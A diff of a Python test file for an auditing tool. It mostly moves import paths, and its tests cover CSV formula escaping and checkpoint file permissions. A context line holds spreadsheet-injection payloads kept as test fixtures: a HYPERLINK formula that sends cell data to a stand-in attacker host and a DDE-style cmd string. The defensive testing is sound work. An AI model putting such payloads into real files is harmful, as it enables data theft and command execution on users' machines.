@@ -10,8 +10,8 @@ import os
 import stat
 from pathlib import Path
 
-import audit_core.runner as runner
-from audit_core.outputs import records_csv, spreadsheet_text
+import audit_core.run.runner as runner
+from audit_core.results.outputs import records_csv, spreadsheet_text
 from tests.core import output_cases
 from tests.core.output_cases import SECRET, Setup, run_cli, sha256s
 
@@ -27,7 +27,7 @@ FORMULAS = {1: '=HYPERLINK("http://evil.example/?"&A1,"open")', 2: "+cmd|' /C ca
 def test_formula_ids_are_written_as_text_in_records_csv(tmp_path, capsys):
     from audit_core.data.cohort import Role
     from audit_core.data.loading import load_cohort
-    from audit_core.plan import load_plan
+    from audit_core.plan.parsing import load_plan
 
     setup = Setup(tmp_path, ids=FORMULAS)
     plan = setup.plan()
@@ -77,7 +77,7 @@ def _mode(path: Path) -> int:
 
 
 def test_the_checkpoint_and_its_wal_and_shm_are_0600(tmp_path):
-    from audit_core.checkpoints import CheckpointRequest, Fingerprint
+    from audit_core.run.checkpoints import CheckpointRequest, Fingerprint
 
     previous = os.umask(0)  # the most permissive umask: the modes may not rely on it
     try:
@@ -91,7 +91,7 @@ def test_the_checkpoint_and_its_wal_and_shm_are_0600(tmp_path):
 
 
 def test_an_older_0644_checkpoint_is_narrowed_when_resumed(tmp_path):
-    from audit_core.checkpoints import CheckpointRequest, Fingerprint
+    from audit_core.run.checkpoints import CheckpointRequest, Fingerprint
 
     fingerprint = Fingerprint({"plan": "x"})
     saved = CheckpointRequest(tmp_path).open(fingerprint)
